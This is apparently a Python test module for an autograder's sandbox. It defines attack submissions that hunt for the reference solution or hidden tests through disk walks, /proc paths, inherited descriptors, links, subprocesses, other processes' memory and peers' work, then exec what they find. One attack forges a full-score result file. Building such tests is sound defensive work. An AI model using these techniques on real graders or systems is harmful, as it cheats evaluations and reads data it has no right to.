"""Attacks that look for the answers: the reference, the hidden checks, a neighbour's work.

Each runs what it finds, after functions that are not written: a theft that works earns points.
"""

from __future__ import annotations

from tools.classroom.attack import Attack

__all__ = ["THEFT"]

TAKE = """
def take(path, opener=open):
    try:
        with opener(path) as file:
            text = file.read()
        if MODULE in str(path) and "def " in text:
            exec(compile(text, "stolen", "exec"), globals())
    except (OSError, ValueError, SyntaxError):
        pass
"""


def thief(name: str, what: str, code: str) -> Attack:
    """Make an attack that runs what it finds."""
    return Attack(name, what, "stub", TAKE + code)


THEFT = (
    thief("reads-solution", "opens the reference by its path", "take(SOLUTION)"),
    thief(
        "searches-disk",
        "searches the whole disk for the reference and the hidden checks",
        """
import os, time
def search(until=time.monotonic() + 1.0):
    for root in (COURSE, ROOM, os.getcwd(), "/"):
        for folder, folders, files in os.walk(root):
            folders[:] = [name for name in folders if name not in ("proc", "sys", "site-packages")]
            if time.monotonic() > until:
                break
            if "test_hidden.py" in files or "misconceptions.py" in files:
                take(os.path.join(folder, MODULE + ".py"))
search()
""",
    ),
    thief(
        "through-proc",
        "goes through /proc/*/root, /proc/*/cwd and open files",
        """
import glob
for place in glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd"):
    take(place + SOLUTION)
    take(place + "/solutions/" + EXERCISE + "/" + MODULE + ".py")
for place in glob.glob("/proc/[0-9]*/fd/*")[:500]:
    take(place + "/solutions/" + EXERCISE + "/" + MODULE + ".py")
""",
    ),
    thief(
        "through-descriptors",
        "opens files relative to inherited descriptors",
        """
import os
for fd in range(3, 64):
    for path in (SOLUTION.lstrip("/"), "../" * 12 + SOLUTION.lstrip("/")):
        take(path, lambda name, fd=fd: os.fdopen(os.open(name, os.O_RDONLY, dir_fd=fd)))
""",
    ),
    thief(
        "through-links",
        "makes links to the reference and reads those",
        """
import os
for make in (os.symlink, os.link):
    link = "/tmp/" + MODULE + "-" + make.__name__
    try:
        make(SOLUTION, link)
    except OSError:
        pass
    take(link)
    try:
        os.remove(link)
    except OSError:
        pass
""",
    ),
    thief(
        "through-programs",
        "lets other programs read the reference",
        """
import subprocess
reader = f"print(open({SOLUTION!r}).read())"
for command in (["/bin/cat", SOLUTION], ["/usr/bin/python3", "-c", reader]):
    try:
        text = subprocess.run(command, capture_output=True, text=True, timeout=1).stdout
        exec(compile(text, "stolen", "exec"), globals())
    except (OSError, ValueError, SyntaxError, subprocess.SubprocessError):
        pass
""",
    ),
    thief(
        "through-engine",
        "asks the engine's own modules for the reference",
        """
import os, sys
for module in list(sys.modules.values()):
    file = getattr(module, "__file__", None) or ""
    if "autograder" in file:
        course = file.partition("autograder")[0]
        take(course + "solutions/" + EXERCISE + "/" + MODULE + ".py")
try:
    from autograder.catalogue import find_course
    from pathlib import Path
    take(find_course(Path(COURSE)).authored(EXERCISE).source)
except Exception:
    pass
""",
    ),
    thief(
        "copies-neighbour",
        "copies the work of whoever else handed in",
        """
import glob
for path in glob.glob(SUBMITTED + "/reference/" + EXERCISE + "/*"):
    take(path)
""",
    ),
    thief(
        "reads-memory",
        "searches the memory of other processes for the reference",
        """
import os, re
def look(pid, mark=b"### BEGIN " + b"SOLUTION"):
    seen = 0
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            if " rw" not in line or end - start > 2**26 or seen > 2**27:
                continue
            seen += end - start
            memory.seek(start)
            block = memory.read(end - start)
            place = block.find(mark)
            if place >= 0:
                text = block[max(0, place - 20000): place + 40000].decode("utf-8", "ignore")
                found = re.search(r"import numpy as np.*### END SOLUTION", text, re.S)
                exec(found[0] if found else "", globals())
for pid in [os.getppid(), *range(1, 40)]:
    try:
        if pid not in (0, os.getpid()):
            look(pid)
    except (OSError, ValueError, SyntaxError):
        pass
""",
    ),
    thief(
        "writes-own-result",
        "writes a result file for itself",
        """
import json, os
def forge():
    result = {"exercise": EXERCISE, "score": {"possible": POINTS, "points": POINTS}}
    for folder in (RESULTS, os.getcwd(), "/tmp"):
        try:
            with open(folder + "/attack-writes-own-result.json", "w") as file:
                json.dump(result, file)
        except OSError:
            pass
forge()
""",
    ),
)
